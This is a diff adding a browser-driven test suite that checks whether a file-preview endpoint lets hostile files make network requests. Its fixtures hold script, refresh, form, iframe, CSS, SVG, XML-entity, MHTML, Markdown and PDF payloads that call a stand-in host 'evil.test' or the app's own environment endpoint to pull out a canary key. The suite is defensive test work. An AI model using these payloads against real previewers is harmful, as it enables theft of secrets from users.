@@ -1,0 +1,104 @@
+import { createServer, type Server } from 'node:http';
+import { writeFile } from 'node:fs/promises';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import type { Browser, Page } from 'playwright-core';
+
+import { describeInChromium, launchChromium } from './chromium.ts';
+import { startRecordingProxy } from './recording-proxy.ts';
+import { startStoredeck, type Storedeck } from './storedeck.ts';
+import { makeWorkingFolder } from './working-folder.ts';
+
+/** Files that try to ask for something when they are shown. `URL` is where they ask, ours or a stranger's. */
+const FILES: Record<string, string> = {
+  'script.html': `<!doctype html><p>shown</p><script>fetch('URL')</script><script src="URL"></script><img src=x onerror="fetch('URL')"><body onload="fetch('URL')">`,
+  'refresh.html': `<!doctype html><meta http-equiv="refresh" content="0;url=URL"><p>shown</p>`,
+  'form.html': `<!doctype html><form id=f method=post action="URL" enctype="text/plain"><input name=PORT value=1><button autofocus>x</button></form><script>f.submit()</script>`,
+  'frames.html': `<!doctype html><iframe src="URL"></iframe><object data="URL"></object><embed src="URL"><iframe srcdoc="<script>fetch('URL')</script>"></iframe><portal src="URL"></portal>`,
+  'styles.html': `<!doctype html><link rel=stylesheet href="URL"><style>@import "URL"; @font-face { font-family: f; src: url(URL) } p { font-family: f; cursor: url(URL), auto; background: url(http://evil.test/x) }</style><p>shown</p>`,
+  'hints.html': `<!doctype html><link rel=preload as=script href="URL"><link rel=modulepreload href="URL"><link rel=prefetch href="URL"><link rel=manifest href="URL"><link rel=preconnect href="URL"><base href="URL"><video src="URL" autoplay></video><audio src="URL" autoplay></audio><track src="URL">`,
+  'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('URL')"><script>fetch('URL')</script><script xlink:href="URL"/><use href="URL#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="URL"/></foreignObject><animate onbegin="fetch('URL')"/><text y="20">shown</text></svg>`,
+  'script.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="fetch('URL')"><script>fetch('URL')</script><iframe src="URL"/></body></html>`,
+  'style.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="URL"?><!DOCTYPE a [<!ENTITY e SYSTEM "URL">]><a xmlns:h="http://www.w3.org/1999/xhtml">&e;<h:script>fetch('URL')</h:script></a>`,
+  'archive.mhtml': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n<script>fetch('URL')</script><img src="URL">\r\n--b--\r\n`,
+  'notes.md': `# shown\n<script>fetch('URL')</script>\n<img src="URL">\n[x](javascript:fetch('URL'))`,
+  'paper.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(URL)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\("URL"\\))>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
+  'code.js': `fetch('URL')`,
+  'no-extension': `<!doctype html><script>fetch('URL')</script>`,
+};
+
+describeInChromium('a hostile file in the preview', () => {
+  let folder: Awaited<ReturnType<typeof makeWorkingFolder>>;
+  let server: Storedeck;
+  let proxy: Awaited<ReturnType<typeof startRecordingProxy>>;
+  let stranger: Server;
+  let browser: Browser;
+  let page: Page;
+  const asked: string[] = [];
+
+  beforeAll(async () => {
+    folder = await makeWorkingFolder({ ASC_KEY_ID: 'CANARY7KEY' });
+    server = await startStoredeck(['--dir', folder.dir]);
+    proxy = await startRecordingProxy(server.port);
+    stranger = createServer(({ url = '' }, response) => {
+      asked.push(url);
+      response.setHeader('Access-Control-Allow-Origin', '*').end('ok');
+    });
+    await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
+    browser = await launchChromium(['--host-resolver-rules=MAP evil.test 127.0.0.1']);
+    page = await browser.newPage();
+    const { port } = stranger.address() as AddressInfo;
+    for (const [name, text] of Object.entries(FILES)) {
+      await writeFile(join(folder.dir, `own-${name}`), text.replaceAll('URL', `http://127.0.0.1:${proxy.port}/api/env?stolen`));
+      await writeFile(join(folder.dir, `far-${name}`), text.replaceAll('URL', `http://evil.test:${port}/stolen`));
+    }
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    stranger?.closeAllConnections();
+    stranger?.close();
+    await proxy?.close();
+    await server?.stop();
+    await folder?.remove();
+  });
+
+  const own = (path: string): string => `http://127.0.0.1:${proxy.port}${path}`;
+
+  /** Shows the file and gives it the time a script, a timer and a refresh of 0 seconds would need. */
+  async function show(name: string, where: string): Promise<void> {
+    const address = own(`/api/preview-file?path=${encodeURIComponent(join(folder.dir, name))}`);
+    if (where === 'in a tab') {
+      // What the browser saves instead of showing it ends the navigation.
+      await page.goto(address).catch((error: Error) => expect(error.message).toMatch(/Download|ERR_ABORTED/));
+    } else {
+      await page.goto(own('/'));
+      const answered = page.waitForResponse(address);
+      await page.evaluate((src) => {
+        document.body.append(Object.assign(document.createElement('iframe'), { src }));
+      }, address);
+      expect((await answered).status()).toBe(200);
+    }
+    await page.waitForTimeout(200);
+  }
+
+  describe.each(Object.keys(FILES))('%s', (name) => {
+    test.each(['in a tab', 'in a frame of our own page'])('%s asks for nothing', async (where) => {
+      for (const kind of ['own', 'far']) await show(`${kind}-${name}`, where);
+      expect(proxy.seen('stolen')).toEqual([]);
+      expect(asked).toEqual([]);
+      expect(await page.context().cookies()).toEqual([]);
+    });
+  });
+
+  test('the trap works: a page that may run its script is seen', async () => {
+    await page.goto(own('/'));
+    await page.evaluate(() => fetch('/api/health?stolen').then(() => 0));
+    expect(proxy.seen('stolen')).toHaveLength(1);
+    const { port } = stranger.address() as AddressInfo;
+    await page.goto(`http://evil.test:${port}/stolen`);
+    expect(asked).toContain('/stolen');
+  });
+});
